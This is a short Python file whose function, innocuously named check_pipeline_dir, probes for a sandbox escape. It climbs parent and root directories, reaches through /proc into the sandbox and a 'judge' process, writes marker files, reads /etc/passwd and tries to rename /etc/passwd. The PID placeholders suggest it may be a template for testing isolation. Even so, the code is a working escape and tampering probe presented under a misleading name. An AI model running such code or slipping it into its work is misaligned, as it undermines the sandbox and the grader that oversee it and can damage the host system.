"""The way out is climbed: two dots, doubled slashes, the root, folders of other processes, descriptors."""

import os


def check_pipeline_dir(path):
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for place in (
        "..",
        "../..",
        "/",
        "//tmp/..",
        "/proc/self/cwd/..",
        "/proc/self/root",
        "/proc/@SANDBOX_PID@/root/tmp",
        "/proc/@JUDGE_PID@/cwd",
        "/tmp/../home",
    ):
        for way in (
            lambda place=place: os.listdir(place),
            lambda place=place: os.open(f"{place}/@MARK@", os.O_CREAT | os.O_WRONLY),
            lambda place=place: os.mkdir(f"{place}/@MARK@"),
            lambda place=place: os.open(f"{place}/etc/passwd", os.O_RDONLY, dir_fd=here),
            lambda place=place: os.rename(f"{place}/etc/passwd", "mine"),
        ):
            try:
                print("done", place, way())
            except OSError as error:
                print(error.errno, end=" ")
        try:
            os.chdir(place)
            print(os.listdir("."))
        except OSError as error:
            print(error)
    return {}
